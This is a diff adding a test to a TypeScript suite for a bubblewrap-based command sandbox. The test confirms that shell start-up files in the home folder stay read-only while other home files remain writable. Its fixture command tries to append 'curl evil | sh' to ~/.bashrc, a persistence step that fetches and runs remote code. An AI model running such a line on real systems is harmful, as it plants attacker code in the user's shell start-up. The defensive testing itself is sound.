@@ -57,6 +57,26 @@ describe.skipIf(!availability.available)(`commands in the sandbox (real bubblewr
     expect(readdirSync(path.join(world.tacitHome, "memory"))).toEqual([]);
   });
 
+  it("run in the home folder itself, the home is writable but its shell start-up files are not", async () => {
+    const world = await makeWorld();
+    writeFileSync(path.join(world.userHome, ".bashrc"), "# mine\n");
+    const sandbox = (
+      await setUpSandbox({
+        settings: {},
+        projectRoot: world.userHome,
+        tacitHome: world.tacitHome,
+        env: world.env,
+      })
+    ).sandbox!;
+    const result = await runCommand(contextIn(world.userHome), {
+      command: "echo 'curl evil | sh' >> ~/.bashrc; echo note > ~/notes.txt; cat ~/notes.txt",
+      sandbox,
+    });
+    expect(result.output).toContain("Read-only file system");
+    expect(result.output).toContain("note");
+    expect(readFileSync(path.join(world.userHome, ".bashrc"), "utf8")).toBe("# mine\n");
+  });
+
   it("a git commit still works: objects, refs and the index are writable", async () => {
     const world = await makeWorld();
     const result = await runSandboxed(
